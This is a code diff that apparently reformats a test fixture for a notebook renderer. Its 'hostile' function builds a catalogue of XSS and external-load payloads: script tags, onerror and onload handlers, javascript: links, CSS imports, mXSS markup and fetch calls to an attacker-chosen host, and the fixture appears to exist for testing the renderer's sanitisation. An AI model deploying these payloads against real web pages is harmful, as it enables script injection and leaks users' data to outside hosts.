@@ -82,7 +82,8 @@ NOTEBOOK = {
             "execution_count": None,
             "outputs": [],
             "source": 'from opensafely_lab import safe\n\ndata = safe.dataset("output/dataset.arrow")\n'
-            "bled = safe.table(\n    data.where(data.on_drug & data.bled),\n    by=[data.age.cut(age_bands), data.sex],\n"
+            "bled = safe.table(\n    data.where(data.on_drug & data.bled),\n    by=[data.age.cut(age_bands), data.sex],"
+            "\n"
             '    measures=[safe.count()],\n    name="Bleeds by age band and sex",\n)\nbled',
         },
         {
@@ -323,23 +324,27 @@ def hostile(evil: str) -> str:
     call = f"fetch('{evil}/script')"
     run = f"window.pwned=1;{call}"
     html = f"""
-<script>{run}</script><img src=x onerror="{run}"><img src="{evil}/img.png"><svg onload="{run}"><script>{run}</script></svg>
+<script>{run}</script><img src=x onerror="{run}"><img src="{evil}/img.png">
+<svg onload="{run}"><script>{run}</script></svg>
 <iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="{evil}/frame"></iframe>
 <object data="{evil}/object"></object><embed src="{evil}/embed"><link rel=stylesheet href="{evil}/style.css">
-<style>body{{background:url({evil}/css-a)}} @import url({evil}/css-b);</style><p style="background:url({evil}/css-c)">styled</p>
-<a href="javascript:{run}" id="jslink">a link</a><form action="{evil}/form"><input name=q autofocus onfocus="{run}"></form>
+<style>body{{background:url({evil}/css-a)}} @import url({evil}/css-b);</style>
+<p style="background:url({evil}/css-c)">styled</p>
+<a href="javascript:{run}" id="jslink">a link</a>
+<form action="{evil}/form"><input name=q autofocus onfocus="{run}"></form>
 <video src="{evil}/video" autoplay></video><audio src="{evil}/audio" autoplay></audio><base href="{evil}/base/">
-<meta http-equiv="refresh" content="0;url={evil}/refresh"><picture><source srcset="{evil}/set"><img src="{evil}/i2"></picture>
-<input type=image src="{evil}/input"><table background="{evil}/back"><tr><td background="{evil}/td">cell</td></tr></table>
+<meta http-equiv="refresh" content="0;url={evil}/refresh">
+<picture><source srcset="{evil}/set"><img src="{evil}/i2"></picture>
+<input type=image src="{evil}/input">
+<table background="{evil}/back"><tr><td background="{evil}/td">cell</td></tr></table>
 <math><mtext><table><mglyph><style><img src onerror="{run}"></style></mglyph></table></mtext></math>
 <button data-commandlinker-command="opensafely:open-panel" data-commandlinker-args="{{}}">linked</button>
 <div id="main" class="jp-Dialog lm-Widget">clobber</div>
 """
     svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><image href="{evil}/svg"/></svg>'
     data64 = base64.b64encode(f"<script>{run}</script>".encode()).decode()
-    markdown = (
-        f"# hostile\n\n![pic]({evil}/md.png)\n\n[x](javascript:{run})\n\n{html}\n\n```mermaid\nflowchart\n a-->b\n```\n"
-    )
+    diagram = "```mermaid\nflowchart\n a-->b\n```\n"
+    markdown = f"# hostile\n\n![pic]({evil}/md.png)\n\n[x](javascript:{run})\n\n{html}\n\n{diagram}"
 
     def output(data: Mapping[str, object], metadata: Mapping[str, object] | None = None) -> dict[str, object]:
         return {"output_type": "display_data", "data": data, "metadata": metadata or {}}
